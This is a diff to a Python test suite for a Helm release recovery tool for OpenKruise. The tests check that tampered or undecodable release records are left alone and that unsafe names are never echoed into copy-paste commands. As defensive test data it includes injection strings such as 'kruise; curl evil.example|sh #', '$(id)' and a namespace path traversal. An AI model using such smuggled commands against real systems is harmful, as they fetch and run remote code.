@@ -24,16 +24,23 @@ CONFIG_MAPS = "/api/v1/namespaces/kruise-system/configmaps"
 DEFINITIONS = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"
 
 
-def secret(status: str, manifest: str = MANIFEST) -> dict[str, Any]:
-    release = {
-        "name": "kruise",
-        "namespace": "kruise-system",
-        "version": 2,
-        "info": {"status": status},
-        "manifest": manifest,
-        "hooks": [],
-    }
+RELEASE = {
+    "name": "kruise",
+    "namespace": "kruise-system",
+    "version": 2,
+    "manifest": MANIFEST,
+    "hooks": [],
+}
+"""What Helm's record holds, but for its status."""
+
+
+def pack(release: dict[str, Any]) -> dict[str, str]:
+    """Return the data of a record's Secret."""
     packed = base64.b64encode(gzip.compress(json.dumps(release).encode()))
+    return {"release": base64.b64encode(packed).decode()}
+
+
+def secret(status: str, manifest: str = MANIFEST) -> dict[str, Any]:
     return {
         "metadata": {
             "name": "sh.helm.release.v1.kruise.v2",
@@ -49,7 +56,7 @@ def secret(status: str, manifest: str = MANIFEST) -> dict[str, Any]:
             },
         },
         "type": "helm.sh/release.v1",
-        "data": {"release": base64.b64encode(packed).decode()},
+        "data": pack({**RELEASE, "info": {"status": status}, "manifest": manifest}),
     }
 
 
@@ -164,12 +171,15 @@ def test_a_change_after_the_last_look_meets_the_api_servers_refusal(
     server: ApiServer, kubeconfig: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     holds(server, "pending-upgrade")
-    respond = server.respond
+    respond, reads = server.respond, 0
 
     def changed_between(method: str, target: str, *rest: Any) -> Any:
+        nonlocal reads
         answer = respond(method, target, *rest)
         if (method, target) == ("GET", RECORD):
-            answer[1]["metadata"]["resourceVersion"] = "42"
+            reads += 1
+            if reads > 1:  # the first is before the question
+                answer[1]["metadata"]["resourceVersion"] = "42"
         return answer
 
     monkeypatch.setattr(server, "respond", changed_between)
@@ -185,7 +195,7 @@ def test_what_cannot_be_edited_is_found_before_anything_is_changed(
     server.routes[RECORD] = (200, {**secret("pending-upgrade"), "data": {"release": "bm90aGluZw=="}})
     assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == 2
     assert changes(server) == []
-    assert "holds no Helm release" in capsys.readouterr().err
+    assert "Secret sh.helm.release.v1.kruise.v2: not a Helm release record" in capsys.readouterr().err
 
 
 def test_json_for_scripts(server: ApiServer, kubeconfig: str, capsys: pytest.CaptureFixture[str]) -> None:
@@ -384,8 +394,103 @@ def test_a_secret_with_helms_labels_that_is_no_record_hides_nothing(
     labels = {"owner": "helm", "name": "kruise", "version": "9", "status": "deployed"}
     planted = {"metadata": {"name": "planted", "labels": labels}, "type": "Opaque"}
     server.objects(SECRETS, [stuck, planted])
+    server.routes[RECORD] = (200, stuck)
     assert run(["recover", "--kubeconfig", kubeconfig, "--dry-run"]) == 1
     assert "revision 2 of kruise-system/kruise is pending-upgrade" in capsys.readouterr().out
+
+
+CHANGED = ["pending-upgrade", "pending-rollback", "pending-install", "uninstalling", "uninstalled"]
+"""Every status of which a plan changes a record."""
+
+
+@pytest.mark.parametrize("status", CHANGED)
+@pytest.mark.parametrize(
+    ("field", "value", "said"),
+    [
+        ("info", {"status": "deployed"}, "the status is {}, by content deployed"),
+        ("name", "other", "the release is kruise-system/kruise, by content kruise-system/other"),
+        ("namespace", "shop", "the release is kruise-system/kruise, by content shop/kruise"),
+        ("version", 3, "the revision is 2, by content 3"),
+    ],
+)
+def test_a_record_whose_content_is_not_what_its_labels_say_is_left_alone(
+    server: ApiServer,
+    kubeconfig: str,
+    status: str,
+    field: str,
+    value: Any,
+    said: str,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """A label is easily written by hand, and Helm goes by the content where it uses a record."""
+    holds(server, status)
+    server.routes[RECORD] = (
+        200,
+        {**secret(status), "data": pack({**RELEASE, "info": {"status": status}, field: value})},
+    )
+    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == 2
+    assert changes(server) == []
+    assert said.format(status) in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("status", CHANGED)
+def test_a_record_that_cannot_be_decoded_is_left_alone(
+    server: ApiServer, kubeconfig: str, status: str
+) -> None:
+    holds(server, status)
+    server.routes[RECORD] = (200, {**secret(status), "data": {"release": "Z2FyYmFnZQ=="}})
+    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == 2
+    assert changes(server) == []
+
+
+@pytest.mark.parametrize(
+    "namespace", ["kube-system", "default", "x/../../kube-system", "a?x=", "a.b", "A", "$(id)"]
+)
+@pytest.mark.parametrize("status", ["pending-install", "uninstalling"])
+def test_the_values_of_a_record_lead_into_no_namespace_that_cannot_be_openkruises(
+    server: ApiServer, kubeconfig: str, status: str, namespace: str
+) -> None:
+    metadata = json.dumps({"name": "coredns", "namespace": namespace})
+    manifest = f"apiVersion: v1\nkind: ServiceAccount\nmetadata: {metadata}\n"
+    holds(server, status)
+    values = {"config": {"installation": {"namespace": namespace}}, "manifest": manifest}
+    content = {**RELEASE, "info": {"status": status}, **values}
+    server.routes[RECORD] = (200, {**secret(status), "data": pack(content)})
+    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == 2
+    assert changes(server) == []
+    assert not any("coredns" in path for _method, path, *_ in server.asked)
+
+
+@pytest.mark.parametrize("labels", [{}, {"control-plane": "other"}, {"control-plane": "openkruise"}])
+def test_objects_are_marked_only_where_openkruise_can_be(
+    server: ApiServer, kubeconfig: str, labels: dict[str, str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = "/api/v1/namespaces/shop/serviceaccounts/shop"
+    holds(server, "pending-install")
+    server.routes["/api/v1/namespaces/shop"] = (200, {"metadata": {"name": "shop", "labels": labels}})
+    server.routes[path] = (200, {"metadata": {"name": "shop"}})
+    manifest = "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: shop, namespace: shop}\n"
+    values = {"config": {"installation": {"namespace": "shop"}}, "manifest": manifest}
+    content = {**RELEASE, "info": {"status": "pending-install"}, **values}
+    server.routes[RECORD] = (200, {**secret("pending-install"), "data": pack(content)})
+    labelled = labels.get("control-plane") == "openkruise"
+    assert run(["recover", "--kubeconfig", kubeconfig, "--yes"]) == (0 if labelled else 2)
+    assert changes(server) == ([("PATCH", path), ("DELETE", RECORD)] if labelled else [])
+    assert ("kubectl label namespace shop control-plane=openkruise" in capsys.readouterr().err) != labelled
+
+
+@pytest.mark.parametrize("name", ["kruise; curl evil.example|sh #", "$(id)", "-n", "a b", "`id`", "KRUISE"])
+@pytest.mark.parametrize("key", ["name", "namespace"])
+def test_no_command_to_copy_has_what_cannot_be_a_name(
+    server: ApiServer, kubeconfig: str, name: str, key: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    server.objects(SECRETS, [])
+    marks = {f"meta.helm.sh/release-{one}": "other" for one in ("name", "namespace")}
+    annotations = {**marks, f"meta.helm.sh/release-{key}": name}
+    server.routes[CLONE_SETS] = (200, {"metadata": {"annotations": annotations}})
+    run(["recover", "--kubeconfig", kubeconfig, "--dry-run"])
+    said = capsys.readouterr()
+    assert name not in said.out + said.err
 
 
 @pytest.mark.parametrize("status", ["pending-upgrade", "uninstalling", "pending-install"])
